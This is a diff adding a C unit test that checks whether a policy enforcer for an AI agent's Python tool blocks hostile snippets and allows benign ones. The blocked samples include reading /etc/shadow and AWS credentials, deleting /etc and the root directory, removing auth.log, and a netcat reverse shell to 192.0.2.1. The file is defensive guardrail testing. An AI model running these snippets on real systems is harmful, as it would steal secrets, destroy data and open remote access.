@@ -401,6 +401,36 @@ Test(families, values_through_names)
 		"out=${OUT_DIR:-./out}; mkdir -p \"$out\" && cp report.txt \"$out\"/");
 }
 
+#define PY(code) run(coder, "python_repl", "code", (code))
+
+Test(families, python_values_through_names)
+{
+	const char *const bad[] = {
+		"file_name = '/etc/shadow'\nwith open(file_name) as f:\n    print(f.read())\n",
+		"import os\np = os.path.join('/usr', '../etc/shadow')\nprint(open(p).read())\n",
+		"from pathlib import Path\nprint((Path.home() / '.aws' / 'credentials').read_text())\n",
+		"import shutil\ndef wipe(p):\n    shutil.rmtree(p)\nwipe('/etc')\n",
+		"import os\nroot = '/'\nos.system('rm -rf ' + root)\n",
+		"import subprocess\nh = '192.0.2.1'\nsubprocess.Popen(['nc', h, '9001', '-e', '/bin/sh'])\n",
+		"import os\nlog = os.path.join('/var/log', 'auth.log')\nos.remove(log)\n",
+		"import shutil\nsrc = 'tool'\ndst = '/usr/' + 'helper'\nshutil.copy(src, dst)\n",
+	};
+	const char *const good[] = {
+		"import os\nfor f in os.listdir('.'):\n    print(f)\n",
+		"import shutil\nbuild = 'build'\nshutil.rmtree(build)\n",
+		"import os\np = os.path.join(os.getcwd(), 'data', 'x.csv')\nprint(open(p).read())\n",
+		"from pathlib import Path\nPath('out').mkdir(exist_ok=True)\n(Path('out') / 'r.txt').write_text('ok')\n",
+		"import subprocess\nsubprocess.run(['git', 'status'])\n",
+		"import requests\nurl = 'https://api.example.test/items'\nprint(requests.get(url).json())\n",
+		"key = '~/.ssh/id_rsa.pub'\nprint(open(key).read())\n",
+		"import os\nif os.path.exists('/etc/shadow'):\n    print('shadowed passwords in use')\n",
+	};
+	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
+		cr_expect(refused(PY(bad[i])), "should block: %s", bad[i]);
+	for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++)
+		cr_expect_eq(PY(good[i]), AGATE_ENFORCE_ALLOW, "should allow: %s", good[i]);
+}
+
 /* ---- reconnaissance ------------------------------------------------------- */
 
 static const char *const recon[] = {
